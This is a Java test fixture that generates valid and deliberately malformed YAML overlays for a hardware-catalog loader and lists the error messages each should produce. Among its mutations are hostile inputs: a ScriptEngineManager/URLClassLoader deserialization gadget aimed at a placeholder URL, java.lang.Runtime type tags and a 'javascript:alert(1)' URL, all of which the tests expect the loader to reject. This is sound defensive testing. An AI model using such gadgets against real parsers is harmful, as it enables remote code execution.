package dev.flopex.catalog;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.fail;
import static org.quicktheories.generators.SourceDSL.integers;
import static org.quicktheories.generators.SourceDSL.lists;
import static org.quicktheories.generators.SourceDSL.strings;

import dev.flopex.core.validation.Check;
import java.math.BigDecimal;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.TimeoutException;
import java.util.function.Supplier;
import java.util.function.UnaryOperator;
import org.quicktheories.core.Gen;
import org.quicktheories.generators.Generate;

/**
 * Shared test fixture: overlay documents as small YAML trees, mutations of them, and QuickTheories
 * generators of malformed and hostile catalog input.
 *
 * <p>Documents are {@code Map<String, Object>} trees whose leaves are {@link Raw} scalars, written
 * to YAML exactly as given, so a test can write {@code .nan}, {@code 1e400} or a {@code !!tag}.
 * {@link #render} emits block-style YAML with one field per line, so line numbers are meaningful.
 */
final class CatalogGenerators {
  /** The overlay file name used in messages. */
  static final String FILE = "hostile-overlay.yaml";

  /** The source every fixture figure cites. */
  static final String SOURCE_ID = "overlay-test-datasheet";

  static final String SOURCE_URL = "https://example.com/overlay-test-datasheet.pdf";
  static final String ACCEL_ID = "overlay-test-accel";
  static final String NIC_ID = "overlay-test-nic";
  static final String SWITCH_ID = "overlay-test-switch";
  static final String LINK_ID = "overlay-test-link";
  static final String SYSTEM_ID = "overlay-test-server";

  /** Hard limit for one load; a load that takes longer counts as a hang. */
  static final long LOAD_TIMEOUT_SECONDS = 20;

  private static final ExecutorService LOADER_THREAD =
      Executors.newCachedThreadPool(
          r -> {
            Thread t = new Thread(r, "catalog-generators-loader");
            t.setDaemon(true);
            return t;
          });

  private CatalogGenerators() {}

  // ------------------------------------------------------------------ YAML trees

  /** A scalar written verbatim. */
  record Raw(String text) {
    @Override
    public String toString() {
      return text;
    }
  }

  static Raw raw(String text) {
    return new Raw(text);
  }

  /** A double-quoted YAML string with every character outside printable ASCII escaped. */
  static Raw quoted(String text) {
    StringBuilder sb = new StringBuilder("\"");
    text.codePoints()
        .forEach(
            cp -> {
              if (cp == '"' || cp == '\\') {
                sb.append('\\').appendCodePoint(cp);
              } else if (cp >= 0x20 && cp < 0x7f) {
                sb.appendCodePoint(cp);
              } else if (cp >= Character.MIN_SURROGATE && cp <= Character.MAX_SURROGATE) {
                sb.append('?'); // an unpaired surrogate is not text
              } else if (cp > 0xffff) {
                sb.append(String.format(Locale.ROOT, "\\U%08x", cp));
              } else {
                sb.append(String.format(Locale.ROOT, "\\u%04x", cp));
              }
            });
    return new Raw(sb.append('"').toString());
  }

  static Map<String, Object> map(Object... keysAndValues) {
    Map<String, Object> m = new LinkedHashMap<>();
    for (int i = 0; i < keysAndValues.length; i += 2) {
      Object v = keysAndValues[i + 1];
      m.put((String) keysAndValues[i], v instanceof String s ? raw(s) : v);
    }
    return m;
  }

  static List<Object> list(Object... items) {
    List<Object> l = new ArrayList<>();
    for (Object o : items) {
      l.add(o instanceof String s ? raw(s) : o);
    }
    return l;
  }

  /** A figure citing the fixture source, with the given value fields. */
  static Map<String, Object> figure(Object... valueFields) {
    Map<String, Object> m = map(valueFields);
    m.put("source", raw(SOURCE_ID));
    m.put("confidence", raw("high"));
    return m;
  }

  static Map<String, Object> sourceEntry() {
    return map(
        "title",
        quoted("Overlay test datasheet"),
        "publisher",
        "Flopex Tests",
        "url",
        quoted(SOURCE_URL),
        "published",
        quoted("2026-01"),
        "read",
        "2026-11-28",
        "kind",
        "datasheet");
  }

  /** An accelerator with only the required fields. */
  static Map<String, Object> minimalAccelerator(String id) {
    return map(
        "id", id,
        "vendor", "NVIDIA",
        "name", quoted("Overlay Test Accelerator " + id),
        "architecture", "Testwell",
        "market", "datacenter",
        "form_factor", "PCIe",
        "memory", map("capacity", figure("value", "48", "unit", "GiB")));
  }

  /** An accelerator with every field of the schema filled. */
  static Map<String, Object> richAccelerator(String id) {
    return map(
        "id", id,
        "aliases", list(quoted("Overlay Test " + id)),
        "vendor", "NVIDIA",
        "name", quoted("Overlay Test Accelerator " + id),
        "architecture", "Testwell",
        "market", "datacenter",
        "form_factor", "PCIe",
        "launch_date", figure("value", "2026-03-01"),
        "process_node", figure("value", quoted("TSMC N3")),
        "die_area_mm2", figure("value", "600"),
        "compute",
            map(
                "fp32", figure("dense_tflops", "50"),
                "bf16", figure("dense_tflops", "100", "sparse_tflops", "200"),
                "int8", figure("dense_tops", "200", "sparse_tops", "400")),
        "unsupported", list("fp4"),
        "memory",
            map(
                "type", "HBM3e",
                "capacity", figure("value", "48", "unit", "GiB"),
                "bandwidth", figure("value", "2.5", "unit", "TB/s")),
        "scale_up",
            map(
                "technology", quoted("TestLink 1"),
                "bandwidth", figure("value", "400", "unit", "GB/s", "direction", "bidirectional"),
                "domain_size", figure("value", "8")),
        "host_interface", figure("value", quoted("PCIe 5.0 x16")),
        "tdp_w", figure("value", "350"),
        "prices", list(price("12000", "2026-06", "per-gpu")));
  }

  static Map<String, Object> price(String usd, String asOf, String unit) {
    Map<String, Object> p =
        map(
            "usd",
            usd,
            "as_of",
            asOf,
            "basis",
            raw("list"),
            "unit",
            raw(unit),
            "region",
            raw("US"),
            "description",
            quoted("test list price per unit"));
    p.put("source", raw(SOURCE_ID));
    p.put("confidence", raw("low"));
    return p;
  }

  /** The minimal valid overlay: one new accelerator with its own {@code sources:} map. */
  static Map<String, Object> minimalOverlay() {
    return map(
        "schema", "flopex-catalog/1",
        "sources", map(SOURCE_ID, sourceEntry()),
        "accelerators", list(minimalAccelerator(ACCEL_ID)));
  }

  /** A self-contained overlay with one entry of every section, every field filled. */
  static Map<String, Object> richOverlay() {
    return map(
        "schema", "flopex-catalog/1",
        "sources", map(SOURCE_ID, sourceEntry()),
        "accelerators", list(richAccelerator(ACCEL_ID)),
        "nics",
            list(
                map(
                    "id", NIC_ID,
                    "aliases", list(quoted("Overlay Test NIC")),
                    "vendor", "NVIDIA",
                    "name", quoted("Overlay test NIC"),
                    "ports", figure("value", "2"),
                    "port_speed", figure("value", "400", "unit", "Gb/s"),
                    "protocols", list("Ethernet"),
                    "host_interface", figure("value", quoted("PCIe 5.0 x16")),
                    "power_w", figure("value", "25"))),
        "switches",
            list(
                map(
                    "id", SWITCH_ID,
                    "vendor", "NVIDIA",
                    "name", quoted("Overlay test switch"),
                    "protocol", "Ethernet",
                    "ports", figure("value", "64"),
                    "port_speed", figure("value", "800", "unit", "Gb/s"),
                    "switching_capacity",
                        figure("value", "51.2", "unit", "Tb/s", "direction", "per_direction"),
                    "rack_units", figure("value", "2"),
                    "power_w", figure("value", "1500"))),
        "links",
            list(
                map(
                    "id", LINK_ID,
                    "vendor", "NVIDIA",
                    "name", quoted("Overlay test transceiver"),
                    "kind", "transceiver",
                    "speed", figure("value", "800", "unit", "Gb/s"),
                    "reach_m", figure("value", "50"),
                    "power_w", figure("value", "15"))),
        "systems",
            list(
                map(
                    "id", SYSTEM_ID,
                    "vendor", "NVIDIA",
                    "name", quoted("Overlay test server"),
                    "kind", "server",
                    "accelerator", ACCEL_ID,
                    "accelerator_count", figure("value", "8"),
                    "cpu", figure("value", quoted("2x Test CPU")),
                    "cpu_count", figure("value", "2"),
                    "system_memory", figure("value", "2", "unit", "TiB"),
                    "nics", list(nicAttachment(NIC_ID, "8", "scale_out")),
                    "storage", figure("value", "30.72", "unit", "TB"),
                    "max_power_kw", figure("value", "10.2"),
                    "rack_units", figure("value", "8"),
                    "prices", list(price("300000", "2026-06", "per-system")))));
  }

  static Map<String, Object> nicAttachment(String part, String count, String role) {
    Map<String, Object> a = map("part", part, "count", count, "role", role);
    a.put("source", raw(SOURCE_ID));
    a.put("confidence", raw("high"));
    return a;
  }

  /** A deep copy of a tree. */
  @SuppressWarnings("unchecked")
  static <T> T copy(T node) {
    if (node instanceof Map<?, ?> m) {
      Map<String, Object> c = new LinkedHashMap<>();
      m.forEach((k, v) -> c.put((String) k, copy(v)));
      return (T) c;
    }
    if (node instanceof List<?> l) {
      List<Object> c = new ArrayList<>();
      l.forEach(v -> c.add(copy(v)));
      return (T) c;
    }
    return node;
  }

  /** Returns the container at {@code path} (keys for maps, integers for lists). */
  @SuppressWarnings("unchecked")
  static Object at(Object root, Object... path) {
    Object n = root;
    for (Object p : path) {
      n =
          p instanceof Integer i
              ? ((List<Object>) n).get(i)
              : ((Map<String, Object>) n).get((String) p);
      if (n == null) {
        throw new IllegalArgumentException(
            "no node at " + Arrays.toString(path) + " (stopped at " + p + ")");
      }
    }
    return n;
  }

  /** Sets the last key of {@code path} to {@code value} (a String becomes a raw scalar). */
  @SuppressWarnings("unchecked")
  static Map<String, Object> set(Map<String, Object> doc, Object value, Object... path) {
    Map<String, Object> d = copy(doc);
    Object parent = at(d, Arrays.copyOf(path, path.length - 1));
    Object last = path[path.length - 1];
    Object v = value instanceof String s ? raw(s) : value;
    if (last instanceof Integer i) {
      ((List<Object>) parent).set(i, v);
    } else {
      ((Map<String, Object>) parent).put((String) last, v);
    }
    return d;
  }

  @SuppressWarnings("unchecked")
  static Map<String, Object> remove(Map<String, Object> doc, Object... path) {
    Map<String, Object> d = copy(doc);
    Object parent = at(d, Arrays.copyOf(path, path.length - 1));
    Object last = path[path.length - 1];
    if (last instanceof Integer i) {
      ((List<Object>) parent).remove((int) i);
    } else if (((Map<String, Object>) parent).remove((String) last) == null) {
      throw new IllegalArgumentException("no field " + last + " to remove");
    }
    return d;
  }

  @SuppressWarnings("unchecked")
  static Map<String, Object> append(Map<String, Object> doc, Object item, Object... listPath) {
    Map<String, Object> d = copy(doc);
    ((List<Object>) at(d, listPath)).add(item instanceof String s ? raw(s) : item);
    return d;
  }

  /** Renders a tree as block-style YAML, one field per line. */
  static String render(Map<String, Object> doc) {
    StringBuilder sb = new StringBuilder();
    emitMap(sb, doc, 0, 0);
    return sb.toString();
  }

  private static void emitMap(StringBuilder sb, Map<?, ?> m, int firstIndent, int indent) {
    boolean first = true;
    for (Map.Entry<?, ?> e : m.entrySet()) {
      sb.append(" ".repeat(first ? firstIndent : indent)).append(e.getKey()).append(':');
      first = false;
      emitValue(sb, e.getValue(), indent);
    }
  }

  private static void emitValue(StringBuilder sb, Object v, int indent) {
    if (v instanceof Map<?, ?> m && !m.isEmpty()) {
      sb.append('\n');
      emitMap(sb, m, indent + 2, indent + 2);
    } else if (v instanceof List<?> l && !l.isEmpty()) {
      sb.append('\n');
      for (Object item : l) {
        sb.append(" ".repeat(indent + 2)).append('-');
        if (item instanceof Map<?, ?> im && !im.isEmpty()) {
          sb.append(' ');
          emitMap(sb, im, 0, indent + 4);
        } else if (item instanceof List<?> il && !il.isEmpty()) {
          // a nested list: flow style keeps the emitter simple
          sb.append(' ').append(flow(il)).append('\n');
        } else {
          sb.append(' ').append(scalar(item)).append('\n');
        }
      }
    } else {
      sb.append(' ').append(scalar(v)).append('\n');
    }
  }

  private static String flow(Object v) {
    if (v instanceof List<?> l) {
      List<String> parts = new ArrayList<>();
      l.forEach(x -> parts.add(flow(x)));
      return "[" + String.join(", ", parts) + "]";
    }
    if (v instanceof Map<?, ?> m) {
      List<String> parts = new ArrayList<>();
      m.forEach((k, x) -> parts.add(k + ": " + flow(x)));
      return "{" + String.join(", ", parts) + "}";
    }
    return scalar(v);
  }

  private static String scalar(Object v) {
    if (v instanceof Map<?, ?> m && m.isEmpty()) {
      return "{}";
    }
    if (v instanceof List<?> l && l.isEmpty()) {
      return "[]";
    }
    return String.valueOf(v);
  }

  /** Returns the 1-based line of the first line of {@code yaml} that contains {@code needle}. */
  static int lineOf(String yaml, String needle) {
    String[] lines = yaml.split("\n", -1);
    for (int i = 0; i < lines.length; i++) {
      if (lines[i].contains(needle)) {
        return i + 1;
      }
    }
    throw new IllegalArgumentException("'" + needle + "' is not in the document");
  }

  /** Returns the 1-based line of the n-th (0-based) line containing {@code needle}. */
  static int lineOf(String yaml, String needle, int occurrence) {
    String[] lines = yaml.split("\n", -1);
    int seen = 0;
    for (int i = 0; i < lines.length; i++) {
      if (lines[i].contains(needle) && seen++ == occurrence) {
        return i + 1;
      }
    }
    throw new IllegalArgumentException(
        "'" + needle + "' #" + occurrence + " is not in the document");
  }

  // ------------------------------------------------------------------ loading

  /**
   * Loads {@code yaml} as an overlay and returns the exception, if any. Fails the test when the
   * loader throws anything but {@link CatalogException} (including errors such as {@code
   * StackOverflowError}) or does not finish within {@link #LOAD_TIMEOUT_SECONDS}.
   */
  static Optional<CatalogException> tryLoad(boolean withBuiltIn, String name, String yaml) {
    return tryLoad(
        () -> {
          CatalogLoader l = HardwareCatalog.loader();
          if (withBuiltIn) {
            l.withBuiltIn();
          } else {
            l.withoutBuiltIn();
          }
          return l.overlay(name, yaml).load();
        },
        yaml);
  }

  static Optional<CatalogException> tryLoad(Supplier<HardwareCatalog> load, String describedInput) {
    Future<Throwable> f =
        LOADER_THREAD.submit(
            () -> {
              try {
                assertThat(load.get()).isNotNull();
                return null;
              } catch (Throwable t) { // NOPMD - the point is to see every kind of failure
                return t;
              }
            });
    Throwable t;
    try {
      t = f.get(LOAD_TIMEOUT_SECONDS, TimeUnit.SECONDS);
    } catch (TimeoutException e) {
      f.cancel(true);
      return fail(
          "loader did not finish within %d s (hang?) on input:%n%s",
          LOAD_TIMEOUT_SECONDS, abbreviate(describedInput));
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
      throw new AssertionError(e);
    } catch (ExecutionException e) {
      throw new AssertionError(e.getCause());
    }
    if (t == null) {
      return Optional.empty();
    }
    if (t instanceof CatalogException ce) {
      return Optional.of(ce);
    }
    throw new AssertionError(
        "loader threw "
            + t.getClass().getName()
            + " instead of CatalogException on input:\n"
            + abbreviate(describedInput),
        t);
  }

  static String abbreviate(String s) {
    String v = s.length() > 2000 ? s.substring(0, 2000) + "... (" + s.length() + " chars)" : s;
    return v.replace("\u0000", "\\0");
  }

  /**
   * Asserts the shape every catalog error must have: a message that names the file or the field,
   * and a rule. (A blank field is tolerated here when the file is named: see
   * CatalogLoaderOverlayTest#test_load_anchorOnEmptyKey_namesAField.)
   */
  static void assertWellFormedError(CatalogException e, String name) {
    assertThat(e.getMessage()).as("message of %s", e).isNotBlank();
    assertThat(e.file()).as("file of: %s", e.getMessage()).isNotBlank();
    assertThat(e.field()).as("field of: %s", e.getMessage()).isNotNull();
    assertThat(e.rule()).as("rule of: %s", e.getMessage()).isNotBlank();
    // the message names the file or, failing that, the field
    assertThat(
            e.getMessage().startsWith(name)
                || (!e.field().isBlank() && e.getMessage().contains(e.field())))
        .as("message names the file '%s' or the field: %s", name, e.getMessage())
        .isTrue();
    e.line().ifPresent(l -> assertThat(l).as("line of: %s", e.getMessage()).isPositive());
  }

  // ------------------------------------------------------------------ mutations

  /**
   * One change to {@link #richOverlay()} that makes it invalid, with the field path and rule the
   * loader's message must contain ({@code null} when only the generic shape is checked).
   */
  record Mutation(
      String name,
      UnaryOperator<Map<String, Object>> apply,
      String expectedField,
      String expectedRule) {
    String expectedText() {
      return expectedField == null ? null : expectedField + " " + expectedRule;
    }

    @Override
    public String toString() {
      return name;
    }
  }

  private static final String ACC = "accelerators[0]";

  private static Mutation m(
      String name, UnaryOperator<Map<String, Object>> f, String field, String rule) {
    return new Mutation(name, f, field, rule);
  }

  /** Mutations with a fixed value and an exact expected message fragment. */
  static List<Mutation> fixedMutations() {
    List<Mutation> ms = new ArrayList<>();
    ms.add(
        m(
            "negative tdp",
            d -> set(d, "-350", "accelerators", 0, "tdp_w", "value"),
            ACC + ".tdp_w.value",
            "must be > 0 W but was -350 W"));
    ms.add(
        m(
            "zero tdp",
            d -> set(d, "0", "accelerators", 0, "tdp_w", "value"),
            ACC + ".tdp_w.value",
            "must be > 0 W"));
    ms.add(
        m(
            "tdp 1e400 overflows to infinity",
            d -> set(d, "1e400", "accelerators", 0, "tdp_w", "value"),
            ACC + ".tdp_w.value",
            "must be finite"));
    ms.add(m("tdp .nan", d -> set(d, ".nan", "accelerators", 0, "tdp_w", "value"), null, null));
    ms.add(m("tdp .inf", d -> set(d, ".inf", "accelerators", 0, "tdp_w", "value"), null, null));
    ms.add(m("tdp -.inf", d -> set(d, "-.inf", "accelerators", 0, "tdp_w", "value"), null, null));
    ms.add(
        m(
            "tdp as text",
            d -> set(d, quoted("seven hundred"), "accelerators", 0, "tdp_w", "value"),
            ACC + ".tdp_w.value",
            "must be a number (W) but was 'seven hundred'"));
    ms.add(
        m(
            "tdp as quoted number",
            d -> set(d, quoted("700"), "accelerators", 0, "tdp_w", "value"),
            ACC + ".tdp_w.value",
            "must be a number (W)"));
    ms.add(
        m(
            "tdp as a list",
            d -> set(d, list("700"), "accelerators", 0, "tdp_w", "value"),
            ACC + ".tdp_w.value",
            "must be a number (W) but was a list"));
    ms.add(
        m(
            "tdp as boolean",
            d -> set(d, "true", "accelerators", 0, "tdp_w", "value"),
            ACC + ".tdp_w.value",
            "must be a number (W)"));
    ms.add(
        m(
            "tdp figure as bare number",
            d -> set(d, "700", "accelerators", 0, "tdp_w"),
            ACC + ".tdp_w",
            "must be a mapping but was 700"));
    ms.add(
        m(
            "die area negative",
            d -> set(d, "-1", "accelerators", 0, "die_area_mm2", "value"),
            ACC + ".die_area_mm2.value",
            "must be > 0"));
    ms.add(
        m(
            "unknown accelerator field",
            d -> set(d, "red", "accelerators", 0, "colour"),
            ACC + ".colour",
            "is not a known field"));
    ms.add(
        m(
            "unknown figure field",
            d -> set(d, "1", "accelerators", 0, "tdp_w", "unit_price"),
            ACC + ".tdp_w.unit_price",
            "is not a known field"));
    ms.add(
        m(
            "unknown top-level section",
            d -> set(d, list(), "gpus"),
            "gpus",
            "is not a known field"));
    ms.add(
        m(
            "unknown source field",
            d -> set(d, "x", "sources", SOURCE_ID, "licence"),
            "sources." + SOURCE_ID + ".licence",
            "is not a known field"));
    ms.add(
        m(
            "unknown precision fp3",
            d -> set(d, figure("dense_tflops", "10"), "accelerators", 0, "compute", "fp3"),
            ACC + ".compute.fp3",
            "must be one of fp64_vector, fp64_tensor, fp32, tf32, bf16, fp16, fp8, int8, fp6, fp4, mxfp8, mxfp6, mxfp4, nvfp4 but was 'fp3'"));
    ms.add(
        m(
            "unknown unsupported precision",
            d -> set(d, list("fp3"), "accelerators", 0, "unsupported"),
            ACC + ".unsupported[0]",
            "must be one of fp64_vector"));
    ms.add(
        m(
            "sparse below dense",
            d -> set(d, "50", "accelerators", 0, "compute", "bf16", "sparse_tflops"),
            ACC + ".compute.bf16.sparse_tflops",
            "must be >= the dense figure (100 TFLOP/s) but was 50 TFLOP/s"));
    ms.add(
        m(
            "int8 sparse below dense",
            d -> set(d, "100", "accelerators", 0, "compute", "int8", "sparse_tops"),
            ACC + ".compute.int8.sparse_tops",
            "must be >= the dense figure (200 TOP/s) but was 100 TOP/s"));
    ms.add(
        m(
            "int8 in tflops",
            d -> set(d, figure("dense_tflops", "5"), "accelerators", 0, "compute", "int8"),
            ACC + ".compute.int8",
            "int8 figures must use dense_tops or dense_pops (integer precision)"));
    ms.add(
        m(
            "float precision in tops",
            d -> set(d, figure("dense_tops", "5"), "accelerators", 0, "compute", "fp32"),
            ACC + ".compute.fp32",
            "fp32 figures must use dense_tflops or dense_pflops (floating-point precision)"));
    ms.add(
        m(
            "dense missing",
            d -> remove(d, "accelerators", 0, "compute", "bf16", "dense_tflops"),
            ACC + ".compute.bf16.dense_tflops",
            "is required"));
    ms.add(
        m(
            "precision both measured and unsupported",
            d -> set(d, list("fp4", "bf16"), "accelerators", 0, "unsupported"),
            ACC + " (" + ACCEL_ID + ").unsupported",
            "must not list a precision that has a throughput figure but was bf16"));
    ms.add(
        m(
            "missing source",
            d -> remove(d, "accelerators", 0, "tdp_w", "source"),
            ACC + ".tdp_w.source",
            "is required"));
    ms.add(
        m(
            "missing confidence",
            d -> remove(d, "accelerators", 0, "tdp_w", "confidence"),
            ACC + ".tdp_w.confidence",
            "is required"));
    ms.add(
        m(
            "source id not defined",
            d -> set(d, "no-such-source", "accelerators", 0, "tdp_w", "source"),
            ACC + ".tdp_w.source",
            "must name a source defined under 'sources' but was 'no-such-source'"));
    ms.add(
        m(
            "no sources section",
            d -> remove(d, "sources"),
            ACC + ".prices[0].source",
            "must name a source defined under 'sources' but was '" + SOURCE_ID + "'"));
    ms.add(
        m(
            "price source not defined",
            d -> set(d, "no-such-source", "accelerators", 0, "prices", 0, "source"),
            ACC + ".prices[0].source",
            "must name a source defined under 'sources'"));
    ms.add(
        m(
            "duplicate accelerator id in one file",
            d -> append(d, richAccelerator(ACCEL_ID), "accelerators"),
            "accelerators[1].id",
            "must be unique within accelerators (duplicate id) but was '" + ACCEL_ID + "'"));
    ms.add(
        m(
            "duplicate nic id in one file",
            d -> append(d, copy(at(d, "nics", 0)), "nics"),
            "nics[1].id",
            "must be unique within nics (duplicate id)"));
    ms.add(
        m(
            "unknown market",
            d -> set(d, "spaceship", "accelerators", 0, "market"),
            ACC + ".market",
            "must be one of datacenter, workstation, consumer but was 'spaceship'"));
    ms.add(
        m(
            "unknown confidence",
            d -> set(d, "certain", "accelerators", 0, "tdp_w", "confidence"),
            ACC + ".tdp_w.confidence",
            "must be one of"));
    ms.add(
        m(
            "unknown source kind",
            d -> set(d, "rumour-mill", "sources", SOURCE_ID, "kind"),
            "sources." + SOURCE_ID + ".kind",
            "must be one of"));
    ms.add(
        m(
            "unknown capacity unit",
            d -> set(d, "GB/s", "accelerators", 0, "memory", "capacity", "unit"),
            ACC + ".memory.capacity.unit",
            "must be one of"));
    ms.add(
        m(
            "bandwidth in bytes unit",
            d -> set(d, "GiB", "accelerators", 0, "memory", "bandwidth", "unit"),
            ACC + ".memory.bandwidth.unit",
            "must be one of"));
    ms.add(
        m(
            "unknown direction",
            d -> set(d, "sideways", "accelerators", 0, "scale_up", "bandwidth", "direction"),
            ACC + ".scale_up.bandwidth.direction",
            "must be one of"));
    ms.add(
        m(
            "domain size fractional",
            d -> set(d, "7.5", "accelerators", 0, "scale_up", "domain_size", "value"),
            ACC + ".scale_up.domain_size.value",
            "must be a whole number but was 7.5"));
    ms.add(
        m(
            "id with upper case and space",
            d -> set(d, quoted("Overlay Accel"), "accelerators", 0, "id"),
            ACC + ".id",
            "must match [a-z0-9][a-z0-9.-]* but was 'Overlay Accel'"));
    ms.add(
        m(
            "memory missing",
            d -> remove(d, "accelerators", 0, "memory"),
            ACC + ".memory",
            "is required"));
    ms.add(
        m(
            "capacity missing",
            d -> remove(d, "accelerators", 0, "memory", "capacity"),
            ACC + ".memory.capacity",
            "is required"));
    ms.add(
        m(
            "vendor blank",
            d -> set(d, quoted("  "), "accelerators", 0, "vendor"),
            ACC + ".vendor",
            "must not be blank"));
    ms.add(
        m(
            "launch date month 13",
            d -> set(d, "2026-13", "accelerators", 0, "launch_date", "value"),
            ACC + ".launch_date.value",
            "must be a real calendar date but was '2026-13'"));
    ms.add(
        m(
            "launch date free text",
            d -> set(d, quoted("spring 2026"), "accelerators", 0, "launch_date", "value"),
            ACC + ".launch_date.value",
            "must be YYYY, YYYY-MM or YYYY-MM-DD"));
    ms.add(
        m(
            "source read date missing",
            d -> remove(d, "sources", SOURCE_ID, "read"),
            "sources." + SOURCE_ID + ".read",
            "is required"));
    ms.add(
        m(
            "source read date impossible",
            d -> set(d, "2026-02-30", "sources", SOURCE_ID, "read"),
            "sources." + SOURCE_ID + ".read",
            "must be a date YYYY-MM-DD but was '2026-02-30'"));
    ms.add(
        m(
            "source url not http",
            d -> set(d, quoted("javascript:alert(1)"), "sources", SOURCE_ID, "url"),
            "sources." + SOURCE_ID,
            "must be an http(s), urn or file URI"));
    ms.add(
        m(
            "source entry is a scalar",
            d -> set(d, "x", "sources", SOURCE_ID),
            "sources." + SOURCE_ID,
            "must be a mapping but was 'x'"));
    ms.add(
        m(
            "source without title",
            d -> remove(d, "sources", SOURCE_ID, "title"),
            "sources." + SOURCE_ID + ".title",
            "is required"));
    ms.add(
        m(
            "price negative",
            d -> set(d, "-12000", "accelerators", 0, "prices", 0, "usd"),
            ACC + ".prices[0].usd",
            "must be > 0 USD but was -12000 USD"));
    ms.add(
        m(
            "price without as_of",
            d -> remove(d, "accelerators", 0, "prices", 0, "as_of"),
            ACC + ".prices[0].as_of",
            "is required"));
    ms.add(
        m(
            "price as_of free text",
            d -> set(d, quoted("last week"), "accelerators", 0, "prices", 0, "as_of"),
            ACC + ".prices[0].as_of",
            "must be YYYY, YYYY-MM or YYYY-MM-DD"));
    ms.add(
        m(
            "nested alternatives",
            d ->
                set(
                    d,
                    list(
                        map(
                            "value",
                            "300",
                            "source",
                            SOURCE_ID,
                            "confidence",
                            "low",
                            "alternatives",
                            list())),
                    "accelerators",
                    0,
                    "tdp_w",
                    "alternatives"),
            ACC + ".tdp_w.alternatives[0].alternatives",
            "is not a known field"));
    ms.add(
        m(
            "alternative sparse below dense",
            d ->
                set(
                    d,
                    list(
                        map(
                            "dense_tflops",
                            "300",
                            "sparse_tflops",
                            "250",
                            "source",
                            SOURCE_ID,
                            "confidence",
                            "low")),
                    "accelerators",
                    0,
                    "compute",
                    "bf16",
                    "alternatives"),
            ACC + ".compute.bf16.alternatives[0].sparse_tflops",
            "must be >= the dense figure (300 TFLOP/s) but was 250 TFLOP/s"));
    ms.add(
        m(
            "compute as a list",
            d -> set(d, list("bf16"), "accelerators", 0, "compute"),
            ACC + ".compute",
            "must be a mapping but was a list"));
    ms.add(
        m(
            "accelerators as a mapping",
            d -> set(d, map("a", "b"), "accelerators"),
            "accelerators",
            "must be a list but was a mapping"));
    ms.add(
        m(
            "wrong schema",
            d -> set(d, "flopex-catalog/2", "schema"),
            "schema",
            "must be flopex-catalog/1 but was 'flopex-catalog/2'"));
    ms.add(m("no schema", d -> remove(d, "schema"), "schema", "is required"));
    ms.add(
        m(
            "system names unknown accelerator",
            d -> set(d, "no-such-gpu", "systems", 0, "accelerator"),
            "systems[0].accelerator",
            "must name an accelerator in the catalog"));
    ms.add(
        m(
            "system names unknown nic",
            d -> set(d, "no-such-nic", "systems", 0, "nics", 0, "part"),
            "systems[0].nics[0].part",
            "must name a NIC in the catalog"));
    ms.add(
        m(
            "system nic count zero",
            d -> set(d, "0", "systems", 0, "nics", 0, "count"),
            "systems[0].nics[0].count",
            "must be > 0 but was 0"));
    ms.add(
        m(
            "system nic role unknown",
            d -> set(d, "backplane", "systems", 0, "nics", 0, "role"),
            "systems[0].nics[0].role",
            "must be one of"));
    ms.add(
        m(
            "system accelerator count negative",
            d -> set(d, "-8", "systems", 0, "accelerator_count", "value"),
            "systems[0].accelerator_count.value",
            "must be > 0 but was -8"));
    ms.add(
        m(
            "system accelerator count fractional",
            d -> set(d, "8.5", "systems", 0, "accelerator_count", "value"),
            "systems[0].accelerator_count.value",
            "must be a whole number but was 8.5"));
    ms.add(
        m(
            "system accelerator count beyond int",
            d -> set(d, "99999999999", "systems", 0, "accelerator_count", "value"),
            "systems[0].accelerator_count.value",
            "must be a whole number"));
    ms.add(
        m(
            "system kind unknown",
            d -> set(d, "cluster", "systems", 0, "kind"),
            "systems[0].kind",
            "must be one of server, rack, pod"));
    ms.add(
        m(
            "pod without racks",
            d -> set(d, "pod", "systems", 0, "kind"),
            "systems[0] (overlay-test-server).racks",
            "must be given for a pod"));
    ms.add(
        m(
            "system memory unit unknown",
            d -> set(d, "TiB/s", "systems", 0, "system_memory", "unit"),
            "systems[0].system_memory.unit",
            "must be one of"));
    ms.add(
        m(
            "switch ports as text",
            d -> set(d, quoted("many"), "switches", 0, "ports", "value"),
            "switches[0].ports.value",
            "must be a whole number but was 'many'"));
    ms.add(
        m(
            "switch port speed missing",
            d -> remove(d, "switches", 0, "port_speed"),
            "switches[0].port_speed",
            "is required"));
    ms.add(
        m(
            "switch co-packaged optics as text",
            d -> set(d, figure("value", quoted("yes")), "switches", 0, "co_packaged_optics"),
            "switches[0].co_packaged_optics.value",
            "must be true or false"));
    ms.add(
        m(
            "link kind unknown",
            d -> set(d, "pigeon", "links", 0, "kind"),
            "links[0].kind",
            "must be one of"));
    ms.add(
        m(
            "nic port speed in bytes-unknown unit",
            d -> set(d, "Gbit", "nics", 0, "port_speed", "unit"),
            "nics[0].port_speed.unit",
            "must be one of"));
    ms.add(
        m(
            "alias claims another entry's id",
            d -> {
              Map<String, Object> second = richAccelerator(ACCEL_ID + "-2");
              second.put("aliases", list(quoted(ACCEL_ID.toUpperCase(Locale.ROOT))));
              return append(d, second, "accelerators");
            },
            null,
            "must not also name " + ACCEL_ID));
    ms.add(
        m(
            "alias without a letter or digit",
            d -> set(d, list(quoted("--")), "accelerators", 0, "aliases"),
            null,
            "must contain a letter or digit"));
    // YAML features the schema forbids
    ms.add(
        m(
            "type tag on a number",
            d -> set(d, "!!java.lang.Runtime 700", "accelerators", 0, "tdp_w", "value"),
            null,
            "must be plain YAML (type tags are not allowed)"));
    ms.add(
        m(
            "ScriptEngineManager gadget",
            d ->
                set(
                    d,
                    "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]",
                    "accelerators",
                    0,
                    "name"),
            null,
            "must be plain YAML (type tags are not allowed)"));
    ms.add(
        m(
            "Runtime tag on an entry",
            d -> set(d, "!!java.lang.Runtime {}", "accelerators", 0, "memory"),
            null,
            "must be plain YAML (type tags are not allowed)"));
    ms.add(
        m(
            "local tag",
            d -> set(d, "!flopex x", "accelerators", 0, "architecture"),
            null,
            "must be plain YAML (type tags are not allowed)"));
    ms.add(
        m(
            "anchored mapping",
            d ->
                set(
                    d,
